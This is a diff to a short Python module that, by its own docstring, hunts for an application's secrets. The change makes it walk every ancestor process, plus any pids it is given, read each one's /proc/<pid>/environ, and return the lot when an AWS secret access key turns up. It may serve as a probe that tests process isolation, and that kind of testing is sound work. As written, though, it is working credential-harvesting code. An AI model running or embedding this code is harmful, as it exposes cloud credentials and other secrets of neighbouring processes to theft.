@@ -1,4 +1,5 @@
-"""Hunts for the application's secrets: its own environment, its parent's, its grandparent's and init's."""
+"""Hunts for the application's secrets: its own environment, its parent's and every ancestor's, init's, and those of
+the processes it is told about (the application and its launcher, by pid)."""
 
 import os
 
@@ -18,15 +19,19 @@ def _parent_of(pid):
     return 1
 
 
-def handler():
-    parent = os.getppid()
-    found = {
-        "environ": dict(os.environ),
-        "parent": _read(f"/proc/{parent}/environ"),
-        "grandparent": _read(f"/proc/{_parent_of(parent)}/environ"),
-        "init": _read("/proc/1/environ"),
-        "parent_memory": _read(f"/proc/{parent}/cmdline"),
-    }
+def _ancestors():
+    pid, seen = os.getppid(), []
+    while pid > 1 and pid not in seen:
+        seen.append(pid)
+        pid = _parent_of(pid)
+    return seen
+
+
+def handler(pids=()):
+    targets = dict.fromkeys([*pids, *_ancestors(), 1])
+    found = {"environ": dict(os.environ), "parent_cmdline": _read(f"/proc/{os.getppid()}/cmdline")}
+    for pid in targets:
+        found[f"environ of {pid}"] = _read(f"/proc/{pid}/environ")
     if "AWS_SECRET_ACCESS_KEY" in repr(found):
         return found
     raise PermissionError(f"no secret found: {found}")
